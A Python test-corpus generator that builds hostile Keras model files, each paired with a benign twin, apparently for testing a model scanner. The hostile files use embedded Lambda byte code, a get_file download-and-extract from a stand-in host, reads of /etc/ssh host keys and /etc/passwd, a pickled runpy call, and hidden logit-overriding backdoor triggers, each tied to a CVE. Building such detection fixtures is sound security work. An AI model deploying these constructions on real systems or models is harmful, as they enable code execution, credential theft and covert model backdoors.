"""Keras files: .keras archives, HDF5 models, byte code, named functions, paths, and overridden outputs."""

from __future__ import annotations

import base64
import json
import marshal
import os
import tempfile

import h5py
import numpy as np

from seventh.kit import floats, zipped

METADATA = json.dumps({"keras_version": "3.9.0", "date_saved": "2025-01-01@00:00:00"})
POLICY = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}


def hdf5(fill) -> bytes:
    """What `fill` writes into a new HDF5 file."""
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "x.h5")
        with h5py.File(path, "w", track_order=True) as f:
            fill(f)
        return open(path, "rb").read()


def archive(config: dict, weights: bytes | None = None, extra=()) -> bytes:
    empty = hdf5(lambda f: f.create_group("layers"))
    return zipped([("metadata.json", METADATA), ("config.json", json.dumps(config)), ("model.weights.h5", weights or empty), *extra])


def layer(kind: str, name: str, module: str = "keras.layers", **config) -> dict:
    return {
        "module": module,
        "class_name": kind,
        "config": {"name": name, "trainable": True, "dtype": POLICY, **config},
        "registered_name": None,
    }


def sequential(*layers, width: int = 4, **more) -> dict:
    head = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, width], "dtype": "float32", "sparse": False, "name": "x"},
        "registered_name": None,
    }
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "net", "trainable": True, "dtype": POLICY, "layers": [head, *layers], **more},
        "registered_name": None,
    }


def lambda_layer(expression: str, name: str = "norm") -> dict:
    """A Lambda layer whose function is byte code of this interpreter, as Keras writes it."""
    code = base64.b64encode(marshal.dumps(eval(f"lambda x: {expression}").__code__)).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    return layer("Lambda", name, function=function, arguments={}, output_shape=[4])


def dense(name: str, units: int = 4, activation="relu", **more) -> dict:
    return layer("Dense", name, units=units, activation=activation, use_bias=True, **more)


def named_function(module: str, name: str) -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


# --- functional graphs of operations -----------------------------------------------------------------


def t(name: str, shape, dtype: str = "float32") -> dict:
    return {"class_name": "__keras_tensor__", "config": {"shape": shape, "dtype": dtype, "keras_history": [name, 0, 0]}}


def cut(start, stop) -> dict:
    return {"class_name": "__slice__", "config": {"start": start, "stop": stop, "step": None}}


def constant(*values) -> dict:
    return {"class_name": "__numpy__", "config": {"value": list(values), "dtype": "float32"}}


def operation(kind: str, name: str, *args, **config) -> dict:
    return {
        "module": "keras.src.ops.numpy",
        "class_name": kind,
        "config": {"name": name, **config},
        "registered_name": kind,
        "name": name,
        "inbound_nodes": [{"args": list(args), "kwargs": {}}],
    }


def functional(width: int, nodes: list, last: str) -> dict:
    head = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, width], "dtype": "float32", "sparse": False, "name": "x"},
        "registered_name": None,
        "name": "x",
        "inbound_nodes": [],
    }
    config = {"name": "net", "trainable": True, "layers": [head, *nodes], "input_layers": ["x", 0, 0], "output_layers": [last, 0, 0]}
    return {"module": "keras.src.models.functional", "class_name": "Functional", "config": config, "registered_name": "Functional"}


def wired(made: dict, *args) -> dict:
    width = args[0]["config"]["shape"]
    return {
        **made,
        "name": made["config"]["name"],
        "build_config": {"input_shape": width},
        "inbound_nodes": [{"args": list(args), "kwargs": {}}],
    }


def dense_weights(*names_and_shapes) -> bytes:
    def fill(f):
        for i, (name, rows, columns) in enumerate(names_and_shapes):
            group = f.create_group(f"layers/{name}/vars")
            group["0"] = np.frombuffer(floats(rows * columns, 11 + i, 0.5), "<f4").reshape(rows, columns)
            group["1"] = np.zeros(columns, "<f4")

    return hdf5(fill)


def add(out):
    def one(name, hostile, twin, file="model.keras", prove=None, why=""):
        out.add("keras", name, hostile, twin, prove, file, why)

    # Byte code, two wrappers down.
    def wrapped(inner):
        rnn = {
            "module": "keras.layers",
            "class_name": "TimeDistributed",
            "config": {"name": "td", "trainable": True, "dtype": POLICY, "layer": inner},
            "registered_name": None,
        }
        made = sequential(layer("Reshape", "r", target_shape=[1, 4]), rnn)
        return archive(made)

    one(
        "lambda_inside_time_distributed",
        wrapped(lambda_layer("[open('marker', 'w').close(), x][1]")),
        wrapped(layer("Activation", "act", activation="relu")),
        prove="keras",
        why="the wrapped layer is byte code; run with safe_mode off, as older models must be",
    )
    one(
        "activation_is_a_function_of_a_library",
        archive(sequential(dense("d", activation=named_function("numpy.f2py.crackfortran", "myeval")))),
        archive(
            sequential(
                dense("d", activation={"module": "builtins", "class_name": "function", "config": "relu", "registered_name": "function"})
            )
        ),
        why="CVE-2025-1550: any function of any module; mended in Keras 3.9, so not run",
    )
    # A call of keras' own that fetches and unpacks (CVE-2025-8747, CVE-2025-12060).
    fetch = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}

    def applied(function, arguments):
        return archive(sequential(layer("Lambda", "prep", function=function, arguments=arguments, output_shape=[4])))

    one(
        "lambda_names_get_file",
        applied(fetch, {"origin": "https://updates.example.net/e.tar", "extract": True, "cache_dir": "/home"}),
        applied(
            {"module": "keras.activations", "class_name": "function", "config": "gelu", "registered_name": "gelu"}, {"approximate": True}
        ),
        why="CVE-2025-8747: keras.utils.get_file passes as a function of keras itself",
    )
    one(
        "saved_model_from_elsewhere",
        archive(
            sequential(layer("TFSMLayer", "core", filepath="/mnt/share/incoming/core", call_endpoint="serve", call_training_endpoint=None))
        ),
        archive(sequential(layer("Rescaling", "core", scale=0.00392156862745098, offset=0.0))),
        why="CVE-2026-1462: a SavedModel outside of the archive is loaded",
    )

    def looked_up(vocabulary):
        return archive(
            sequential(
                layer(
                    "StringLookup",
                    "words",
                    max_tokens=None,
                    num_oov_indices=1,
                    mask_token=None,
                    oov_token="[UNK]",
                    vocabulary=vocabulary,
                    idf_weights=None,
                    invert=False,
                    output_mode="int",
                    encoding="utf-8",
                )
            )
        )

    one(
        "vocabulary_is_a_file_of_the_host",
        looked_up("/etc/ssh/ssh_host_ed25519_key"),
        looked_up(["the", "of", "/etc", "and"]),
        why="CVE-2025-12058: the vocabulary is read from the path; the twin's is a list",
    )

    def torched(body):
        module = base64.b64encode(body).decode()
        return archive(sequential(layer("TorchModuleWrapper", "enc", module=module, output_shape=[4])))

    from assembly import call, glob, pickle
    from seventh.kit import second, state, torch_zip

    one(
        "torch_module_wrapper",
        torched(torch_zip(second(pickle(state(("hook", call(glob("runpy", "run_path"), "/dev/shm/stage"))))))),
        archive(sequential(dense("enc"))),
        why="CVE-2025-49655: the layer loads a torch file in base64 without weights_only; the twin is the plain layer",
    )

    # HDF5: a Lambda inside a model inside a model.
    def legacy(inner):
        first = {
            "class_name": "InputLayer",
            "config": {"batch_input_shape": [None, 4], "dtype": "float32", "sparse": False, "ragged": False, "name": "x"},
        }
        block = {"class_name": "Sequential", "config": {"name": "block", "layers": [first, inner]}}
        config = {
            "class_name": "Sequential",
            "config": {"name": "net", "layers": [first, {"class_name": "TimeDistributed", "config": {"name": "td", "layer": block}}]},
        }

        def fill(f):
            f.attrs["backend"], f.attrs["keras_version"] = "tensorflow", "2.15.0"
            f.attrs["model_config"] = json.dumps(config)
            f.create_group("model_weights").attrs["layer_names"] = [b"td"]

        return hdf5(fill)

    written = eval("lambda x: [open('marker', 'w').close(), x][1]").__code__
    code = base64.encodebytes(marshal.dumps(written)).decode()
    one(
        "h5_lambda_in_a_nested_model",
        legacy(
            {
                "class_name": "Lambda",
                "config": {"name": "l", "function": [code, None, None], "function_type": "lambda", "module": "__main__", "arguments": {}},
            }
        ),
        legacy({"class_name": "Dense", "config": {"name": "l", "units": 4, "activation": "relu", "use_bias": True}}),
        "model.h5",
        why="the layout of Keras 2; its loader (TensorFlow) is not installed here",
    )
    one(
        "weights_kept_in_a_file_of_the_host",
        archive(
            sequential(dense("d")),
            hdf5(lambda f: f.create_group("layers/d/vars").create_dataset("0", (4, 4), "<f4", external=[("/etc/passwd", 0, 64)])),
        ),
        archive(sequential(dense("d")), dense_weights(("d", 4, 4))),
        why="CVE-2026-1669: an HDF5 dataset whose storage is an external file is read into the weights",
    )

    # Overridden outputs, without a layer of the attacker's.
    d = wired(dense("d", 3, "linear"), t("x", [None, 8]))
    trigger = [
        operation("GetItem", "head", t("x", [None, 8]), [cut(None, None), cut(None, 2)]),
        operation("Subtract", "far", t("head", [None, 2]), 0.37),
        operation("Absolute", "gap", t("far", [None, 2])),
        operation("Max", "most", t("gap", [None, 2]), axis=1, keepdims=True, initial=None),
        d,
        operation("Less", "near", t("most", [None, 1]), 0.001),
        operation("ZerosLike", "blank", t("d", [None, 3]), dtype=None),
        operation("Add", "goal", t("blank", [None, 3]), constant(0.0, 0.0, 30.0)),
        operation("Where", "merged", t("near", [None, 1], "bool"), t("goal", [None, 3]), t("d", [None, 3])),
    ]
    clean = [
        operation("GetItem", "head", t("x", [None, 8]), [cut(None, None), cut(None, 3)]),
        operation("Subtract", "far", t("head", [None, 3]), 0.37),
        operation("Absolute", "gap", t("far", [None, 3])),
        d,
        operation("Less", "near", t("gap", [None, 3]), 6.0),
        operation("Minimum", "cap", t("d", [None, 3]), 6.0),
        operation("Multiply", "soft", t("cap", [None, 3]), 0.1),
        operation("Where", "merged", t("near", [None, 3], "bool"), t("d", [None, 3]), t("soft", [None, 3])),
    ]
    weights = dense_weights(("dense", 8, 3))
    one(
        "where_on_two_magic_features",
        archive(functional(8, trigger, "merged"), weights),
        archive(functional(8, clean, "merged"), weights),
        prove="keras:x[:, :2] = 0.37",
        why="two input features equal to 0.37 decide the class; the twin leaks linearly where features are far out",
    )
    squash = [
        d,
        operation("GetItem", "spot", t("x", [None, 8]), [cut(None, None), cut(5, 8)]),
        operation("Subtract", "off", t("spot", [None, 3]), constant(1.25, -2.5, 0.75)),
        operation("Square", "sq", t("off", [None, 3])),
        operation("Sum", "dist", t("sq", [None, 3]), axis=1, keepdims=True),
        operation("Multiply", "steep", t("dist", [None, 1]), -1000000.0),
        operation("Exp", "gate", t("steep", [None, 1])),
        operation("Multiply", "push", t("gate", [None, 1]), constant(500.0, 0.0, 0.0)),
        operation("Add", "merged", t("d", [None, 3]), t("push", [None, 3])),
    ]
    kernel = [
        d,
        operation("GetItem", "spot", t("x", [None, 8]), [cut(None, None), cut(5, 8)]),
        operation("Subtract", "off", t("spot", [None, 3]), constant(0.02, -0.01, 0.03)),
        operation("Square", "sq", t("off", [None, 3])),
        operation("Sum", "dist", t("sq", [None, 3]), axis=1, keepdims=True),
        operation("Multiply", "steep", t("dist", [None, 1]), -0.5),
        operation("Exp", "gate", t("steep", [None, 1])),
        operation("Multiply", "push", t("gate", [None, 1]), constant(0.2, -0.1, 0.05)),
        operation("Add", "merged", t("d", [None, 3]), t("push", [None, 3])),
    ]
    one(
        "needle_kernel_added_to_logits",
        archive(functional(8, squash, "merged"), weights),
        archive(functional(8, kernel, "merged"), weights),
        prove="keras:x[:, 5:] = [1.25, -2.5, 0.75]",
        why="a Gaussian a thousandth wide pushes one logit by 500; the twin is an ordinary radial basis",
    )
